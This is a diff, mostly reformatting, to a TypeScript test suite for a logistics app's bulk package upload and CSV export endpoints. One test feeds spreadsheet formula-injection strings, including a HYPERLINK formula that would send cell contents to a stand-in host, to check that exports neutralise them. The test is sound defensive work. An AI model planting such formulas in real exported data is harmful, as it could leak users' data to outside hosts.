@@ -9,7 +9,13 @@ import type { Package } from '../../shared/schemas/package';
 import { makeApp, type TestApp } from '../helpers/app';
 import { seedGeo } from './package-fixtures';
 
-type Report = { row: number; hawb: string | null; status: 'created' | 'rejected'; id: number | null; errors: { path: string; message: string }[] };
+type Report = {
+  row: number;
+  hawb: string | null;
+  status: 'created' | 'rejected';
+  id: number | null;
+  errors: { path: string; message: string }[];
+};
 type UploadOk = { success: boolean; created: number; rejected: number; report: Report[] };
 type UploadRefused = { code: string; message: string; details: { created: number; rejected: number; report: Report[] } };
 
@@ -20,7 +26,13 @@ const form = (content: string | Uint8Array<ArrayBuffer>, name: string, extra: Re
   return f;
 };
 const upload = <T>(t: TestApp, path: string, token: string, body: FormData) => t.json<T>('POST', path, token, body);
-const countPackages = async (t: TestApp) => (await t.db.select({ n: sql<number>`count(*)` }).from(pkg).get())?.n ?? 0;
+const countPackages = async (t: TestApp) =>
+  (
+    await t.db
+      .select({ n: sql<number>`count(*)` })
+      .from(pkg)
+      .get()
+  )?.n ?? 0;
 
 /** A shipper whose prepaid wallet holds `cents`; the default card charges 800 cents plus 150 per started kilogram (950 for 1 kg). */
 async function prepaidShipper(cents: number) {
@@ -37,7 +49,7 @@ async function xlsx(rows: unknown[][]): Promise<Uint8Array<ArrayBuffer>> {
   const wb = new ExcelJS.Workbook();
   const ws = wb.addWorksheet('Packages');
   for (const r of rows) ws.addRow(r);
-  return new Uint8Array(await wb.xlsx.writeBuffer() as ArrayBuffer);
+  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
 }
 
 /** A zip whose central directory declares one entry of `size` bytes: what a zip bomb looks like before inflating. */
@@ -93,9 +105,20 @@ describe('package uploads (CSV and Excel)', () => {
     expect(partial.status).toBe(200);
     expect(partial.body).toMatchObject({ success: true, created: 2, rejected: 4 });
     const created = partial.body.report.filter((r) => r.status === 'created');
-    expect(created.map((r) => [r.row, r.hawb])).toEqual([[2, 'UP-1'], [8, 'UP-3']]);
+    expect(created.map((r) => [r.row, r.hawb])).toEqual([
+      [2, 'UP-1'],
+      [8, 'UP-3'],
+    ]);
     const first = await t.json<Package>('GET', `/api/package/${created[0].id}/`, admin.token);
-    expect(first.body).toMatchObject({ hawb: 'UP-1', customer_name: 'Ada', weight: 1.5, sac: true, delivery_date: '2030-01-02', status: 'created', zone: geo.north });
+    expect(first.body).toMatchObject({
+      hawb: 'UP-1',
+      customer_name: 'Ada',
+      weight: 1.5,
+      sac: true,
+      delivery_date: '2030-01-02',
+      status: 'created',
+      zone: geo.north,
+    });
     expect(await countPackages(t)).toBe(before + 2);
 
     // Same file again: every row is now a duplicate of the database.
@@ -139,7 +162,9 @@ describe('package uploads (CSV and Excel)', () => {
     const refused = await upload<UploadRefused>(t, '/api/package/bulk-upload/', shipper.token, form(csv, 'c.csv'));
     expect(refused.status).toBe(400);
     expect(refused.body.details.report[0]).toMatchObject({ row: 3, errors: [{ path: 'company' }] });
-    expect((await upload(t, '/api/package/bulk-upload/', shipper.token, form('hawb\nCO-3', 'c.csv', { company: String(rivalCompany) }))).status).toBe(403);
+    expect(
+      (await upload(t, '/api/package/bulk-upload/', shipper.token, form('hawb\nCO-3', 'c.csv', { company: String(rivalCompany) }))).status,
+    ).toBe(403);
     const ok = await upload<UploadOk>(t, '/api/package/bulk-upload/?partial=true', shipper.token, form(csv, 'c.csv'));
     expect(ok.body.created).toBe(1);
     const list = await t.json<{ results: Package[] }>('GET', '/api/package/', shipper.token);
@@ -214,7 +239,13 @@ describe('package uploads (CSV and Excel)', () => {
     const first = await t.json<Package>('GET', `/api/package/${ok.body.report[0].id}/`, admin.token);
     // A phone typed as a number (Excel drops the leading 0) is stored in international form (issue 36).
     expect(first.body).toMatchObject({
-      hawb: '12345', customer_name: 'Ada Lovelace', weight: 2, sac: true, delivery_date: '2030-01-02', customer_phone: '+61400111222', company: co,
+      hawb: '12345',
+      customer_name: 'Ada Lovelace',
+      weight: 2,
+      sac: true,
+      delivery_date: '2030-01-02',
+      customer_phone: '+61400111222',
+      company: co,
     });
     expect((await t.json<Package>('GET', `/api/package/${ok.body.report[1].id}/`, admin.token)).body.weight).toBe(2);
 
@@ -237,7 +268,12 @@ describe('package uploads (CSV and Excel)', () => {
     expect(res.body.report.every((r) => r.status === 'created' && r.id != null)).toBe(true);
 
     // Cells a spreadsheet would run as formulas come back neutralised.
-    for (const [hawb, name] of [['EVIL-1', '=HYPERLINK("http://x.test/?"&A1,"click")'], ['EVIL-2', '+1+2'], ['EVIL-3', '@SUM(A1)'], ['EVIL-4', '-2+3']]) {
+    for (const [hawb, name] of [
+      ['EVIL-1', '=HYPERLINK("http://x.test/?"&A1,"click")'],
+      ['EVIL-2', '+1+2'],
+      ['EVIL-3', '@SUM(A1)'],
+      ['EVIL-4', '-2+3'],
+    ]) {
       expect((await t.json('POST', '/api/package/', shipper.token, { hawb, customer_name: name })).status).toBe(201);
     }
 
@@ -255,7 +291,10 @@ describe('package uploads (CSV and Excel)', () => {
     expect(evil.get('EVIL-4')).toBe("'-2+3");
 
     // The list's filters apply; another company gets only the header.
-    const filtered = parse(await (await t.call('GET', '/api/package/csv-download/?search=EVIL', admin.token)).text(), { bom: true, columns: true }) as unknown[];
+    const filtered = parse(await (await t.call('GET', '/api/package/csv-download/?search=EVIL', admin.token)).text(), {
+      bom: true,
+      columns: true,
+    }) as unknown[];
     expect(filtered.length).toBe(4);
     const theirs = await (await t.call('GET', '/api/package/csv-download/', rival.token)).text();
     expect(theirs.trim().split('\n').length).toBe(1);
